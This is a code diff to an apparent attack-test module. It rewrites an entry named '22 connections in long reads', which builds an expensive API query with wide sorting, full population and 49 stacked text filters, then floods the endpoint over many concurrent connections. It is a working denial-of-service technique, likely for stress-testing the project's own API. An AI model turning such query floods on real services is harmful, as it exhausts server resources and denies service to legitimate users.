@@ -25,8 +25,9 @@ export const attacks: Readonly<Record<string, (target: Target) => Promise<Attack
 
   '22 connections in long reads': async ({ url, signIn }) => {
     const token = await signIn(1);
-    const sort = ['sd_user.name', 'author.name', 'sd_user.email', 'author.jp_name', 'sd_user.en_name', 'text', 'name'];
-    const words = repeated(49, (n) => `filters[sd_user][comment][$containsi][${n}]=${n}`);
+    const fields = ['name', 'email', 'jp_name', 'en_name', 'comment'];
+    const sort = fields.flatMap((field) => [`sd_user.${field}`, `author.${field}:desc`]);
+    const words = repeated(49, (n) => `filters[$and][${n}][sd_user][comment][$notContainsi]=${n}`);
     const path = `/api/schedules?populate=*&pagination[pageSize]=100&sort=${sort}&${words}`;
     return flood(url, CONNECTIONS, (n) => ({ path: `${path}&filters[id][$ne]=${n}`, token }));
   },
